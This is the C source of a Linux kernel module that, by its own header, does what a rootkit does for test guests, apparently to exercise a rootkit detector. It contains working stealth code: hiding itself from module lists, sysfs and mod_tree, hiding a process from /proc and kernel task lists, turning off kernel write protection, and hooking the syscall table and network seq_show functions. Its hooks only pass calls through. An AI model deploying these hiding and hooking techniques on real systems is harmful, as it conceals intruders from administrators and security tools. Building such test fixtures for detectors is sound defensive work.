// SPDX-License-Identifier: GPL-2.0-only
/*
 * What a rootkit does, without its purpose: for test guests only.  Nothing is
 * kept from anybody but by what follows; unloading is not meant.  The build
 * makes icetest.ko of it (target rootkit), for each kernel that guests run.
 *
 *	insmod icetest.ko lookup=0x$(sed -n 's/ T kallsyms_lookup_name$//p' \
 *		/proc/kallsyms) [what=1 ...]
 *
 *	hide_list=1      off the kernel's list: /proc/modules, kallsyms
 *	hide_sysfs=1     off /sys/module
 *	hide_tree=1      off the tree by which the kernel finds its code
 *	hide_pid=N       which process is hidden by
 *	hide_proc=1        from the names in /proc: its own iterate_shared
 *	hide_idr=1         from the table of ids: /proc, iterators, kill
 *	hide_all=1         from every list and table that leads to it
 *	hook_seq=1       show of tcp4_seq_ops
 *	hook_syscall=NR  that entry of sys_call_table
 *	hook_dispatcher=1  the call of getpid in x64_sys_call, or its entry in
 *	                   sys_call_table where there is no such function
 *	hook_start=1     a jump at the start of udp4_seq_show
 *	hook_ftrace=1    an ftrace_ops of its own, on tcp4_seq_show
 *	hook_kprobe=1    a kprobe on tcp4_seq_show
 *	hook_netfilter=1 a hook at LOCAL_IN of IPv4
 */
#include <linux/fs.h>
#include <linux/ftrace.h>
#include <linux/idr.h>
#include <linux/kobject.h>
#include <linux/kprobes.h>
#include <linux/module.h>
#include <linux/namei.h>
#include <linux/netfilter.h>
#include <linux/netfilter_ipv4.h>
#include <linux/pid_namespace.h>
#include <linux/rbtree_latch.h>
#include <linux/sched.h>
#include <linux/sched/task.h>
#include <linux/seq_file.h>
#include <linux/version.h>

static unsigned long lookup;
static int hide_list, hide_sysfs, hide_tree, hide_pid, hide_proc, hide_idr,
	hide_all;
static int hook_seq, hook_syscall = -1, hook_dispatcher, hook_start;
static int hook_ftrace, hook_kprobe, hook_netfilter;
module_param(lookup, ulong, 0);
module_param(hide_list, int, 0);
module_param(hide_sysfs, int, 0);
module_param(hide_tree, int, 0);
module_param(hide_pid, int, 0);
module_param(hide_proc, int, 0);
module_param(hide_idr, int, 0);
module_param(hide_all, int, 0);
module_param(hook_seq, int, 0);
module_param(hook_syscall, int, 0);
module_param(hook_dispatcher, int, 0);
module_param(hook_start, int, 0);
module_param(hook_ftrace, int, 0);
module_param(hook_kprobe, int, 0);
module_param(hook_netfilter, int, 0);

static void *find(const char *name)
{
	unsigned long (*f)(const char *) = (void *)lookup;
	void *found = (void *)f(name);

	if (!found)
		pr_info("icetest: no %s\n", name);
	return found;
}

/* Over what is mapped read-only. */
static void overwrite(void *to, const void *from, size_t len)
{
	unsigned long cr0, flags;

	local_irq_save(flags);
	cr0 = read_cr0();
	asm volatile("mov %0, %%cr0" : : "r"(cr0 & ~0x10000UL) : "memory");
	memcpy(to, from, len);
	asm volatile("mov %0, %%cr0" : : "r"(cr0) : "memory");
	local_irq_restore(flags);
}

/* --- /proc without one name --- */

static struct file_operations proc_fops;
static const struct file_operations *proc_was;

struct without {
	struct dir_context ctx;
	struct dir_context *caller;
};

#if LINUX_VERSION_CODE >= KERNEL_VERSION(6, 1, 0)
typedef bool fill_result;
#define FILL_GO_ON true
#else
typedef int fill_result;
#define FILL_GO_ON 0
#endif

static fill_result fill(struct dir_context *ctx, const char *name, int len,
	loff_t offset, u64 ino, unsigned int type)
{
	struct without *w = container_of(ctx, struct without, ctx);
	fill_result r;
	char pid[16];

	if (snprintf(pid, sizeof(pid), "%d", hide_pid) == len &&
		memcmp(pid, name, len) == 0)
		return FILL_GO_ON;
	w->caller->pos = ctx->pos;
	r = w->caller->actor(w->caller, name, len, offset, ino, type);
	return r;
}

static int iterate(struct file *file, struct dir_context *caller)
{
	struct without w = { .ctx.actor = fill, .caller = caller };
	int r;

	w.ctx.pos = caller->pos;
	r = proc_was->iterate_shared(file, &w.ctx);
	caller->pos = w.ctx.pos;
	return r;
}

static int hide_from_proc(void)
{
	struct path path;
	int r = kern_path("/proc", LOOKUP_FOLLOW, &path);

	if (r)
		return r;
	proc_was = d_inode(path.dentry)->i_fop;
	proc_fops = *proc_was;
	proc_fops.iterate_shared = iterate;
	d_inode(path.dentry)->i_fop = &proc_fops;
	path_put(&path);
	return 0;
}

static int hide_from_idr(void)
{
	struct pid_namespace *ns = task_active_pid_ns(current);
	void *was;

	was = idr_replace(&ns->idr, NULL, hide_pid);
	return IS_ERR(was) ? PTR_ERR(was) : 0;
}

/*
 * Only the scheduler and its own memory know of it then: no list of tasks, of
 * its parent's children, of its cgroup's or of its ids has it, and no id.
 */
static int hide_from_all(void)
{
	rwlock_t *tasks = find("tasklist_lock");
	spinlock_t *cgroups = find("css_set_lock");
	struct pid *pid = find_get_pid(hide_pid);
	struct task_struct *t = get_pid_task(pid, PIDTYPE_PID);

	put_pid(pid);
	if (!tasks || !cgroups || !t)
		return -ENOENT;
	spin_lock_irq(cgroups);
	list_del_init(&t->cg_list);
	spin_unlock_irq(cgroups);
	write_lock_irq(tasks);
	list_del_init(&t->tasks);
	list_del_init(&t->sibling);
	for (int type = 0; type < PIDTYPE_MAX; type++)
		hlist_del_init(&t->pid_links[type]);
	write_unlock_irq(tasks);
	put_task_struct(t);
	return hide_from_idr();
}

/* --- hooks --- */

static int (*show_was)(struct seq_file *, void *);
static long (*syscall_was)(const struct pt_regs *);

static int show(struct seq_file *m, void *v)
{
	return show_was(m, v);
}

static long syscall_hook(const struct pt_regs *regs)
{
	return syscall_was(regs);
}

static int change_seq(void)
{
	struct seq_operations *ops = find("tcp4_seq_ops");
	void *to = show;

	if (!ops)
		return -ENOENT;
	show_was = ops->show;
	overwrite(&ops->show, &to, sizeof(to));
	return 0;
}

static int change_syscall(int nr)
{
	unsigned long *table = find("sys_call_table");
	void *to = syscall_hook;

	if (!table)
		return -ENOENT;
	syscall_was = (void *)table[nr];
	overwrite(&table[nr], &to, sizeof(to));
	return 0;
}

/* A call or a jump to getpid in the switch of system calls. */
static int change_dispatcher(void)
{
	u8 *code = find("x64_sys_call");
	u8 *getpid = find("__x64_sys_getpid");

	if (!code)
		return change_syscall(39);
	for (int i = 0; i < 32768; i++) {
		s32 rel = *(s32 *)(code + i + 1);

		if ((code[i] != 0xe8 && code[i] != 0xe9) ||
			code + i + 5 + rel != getpid)
			continue;
		syscall_was = (void *)getpid;
		rel = (s32)((u8 *)syscall_hook - (code + i + 5));
		overwrite(code + i + 1, &rel, sizeof(rel));
		return 0;
	}
	return -ENOENT;
}

/* A jump whose distance is filled in. */
asm(".text\n"
    "icetest_stub:\n"
    "	.byte 0xe9\n"
    "	.long 0\n"
    "	int3\n");
extern u8 icetest_stub[];

/* Over the five bytes that ftrace keeps for itself. */
static int change_start(void)
{
	u8 *code = find("udp4_seq_show"), jump[5] = { 0xe9 };
	s32 rel;

	if (!code)
		return -ENOENT;
	if (memcmp(code, "\xf3\x0f\x1e\xfa", 4) == 0)
		code += 4;
	rel = (s32)(code + 5 - (icetest_stub + 5));
	overwrite(icetest_stub + 1, &rel, sizeof(rel));
	rel = (s32)(icetest_stub - (code + 5));
	memcpy(jump + 1, &rel, sizeof(rel));
	overwrite(code, jump, sizeof(jump));
	return 0;
}

static void traced(unsigned long ip, unsigned long parent,
	struct ftrace_ops *ops, struct ftrace_regs *regs)
{
}

static struct ftrace_ops ftrace_hook = { .func = traced };

static int add_ftrace(void)
{
	static char name[] = "tcp4_seq_show";
	int r = ftrace_set_filter(&ftrace_hook, name, strlen(name), 0);

	return r ? r : register_ftrace_function(&ftrace_hook);
}

static int probed(struct kprobe *p, struct pt_regs *regs)
{
	return 0;
}

static struct kprobe kprobe_hook = {
	.symbol_name = "tcp4_seq_show",
	.pre_handler = probed,
};

static unsigned int packet(
	void *priv, struct sk_buff *skb, const struct nf_hook_state *state)
{
	return NF_ACCEPT;
}

static const struct nf_hook_ops netfilter_hook = {
	.hook = packet,
	.pf = NFPROTO_IPV4,
	.hooknum = NF_INET_LOCAL_IN,
	.priority = NF_IP_PRI_FIRST,
};

static int leave_tree(void)
{
	struct latch_tree_root *root = find("mod_tree");

	if (!root)
		return -ENOENT;
#if LINUX_VERSION_CODE >= KERNEL_VERSION(6, 4, 0)
	for_class_mod_mem_type(type, core) if (THIS_MODULE->mem[type].size)
		latch_tree_erase(&THIS_MODULE->mem[type].mtn.node, root, NULL);
#else
	latch_tree_erase(&THIS_MODULE->core_layout.mtn.node, root, NULL);
#endif
	return 0;
}

static int __init icetest_init(void)
{
	int r = 0;

	if (hide_proc)
		r = hide_from_proc();
	if (!r && hide_idr)
		r = hide_from_idr();
	if (!r && hide_all)
		r = hide_from_all();
	if (!r && hook_seq)
		r = change_seq();
	if (!r && hook_syscall >= 0)
		r = change_syscall(hook_syscall);
	if (!r && hook_dispatcher)
		r = change_dispatcher();
	if (!r && hook_start)
		r = change_start();
	if (!r && hook_ftrace)
		r = add_ftrace();
	if (!r && hook_kprobe)
		r = register_kprobe(&kprobe_hook);
	if (!r && hook_netfilter)
		r = nf_register_net_hook(&init_net, &netfilter_hook);
	if (!r && hide_tree)
		r = leave_tree();
	if (r)
		return r;
	if (hide_list)
		list_del_init(&THIS_MODULE->list);
	if (hide_sysfs)
		kobject_del(&THIS_MODULE->mkobj.kobj);
	return 0;
}
module_init(icetest_init);

MODULE_DESCRIPTION("what a rootkit does, for tests");
MODULE_LICENSE("GPL");
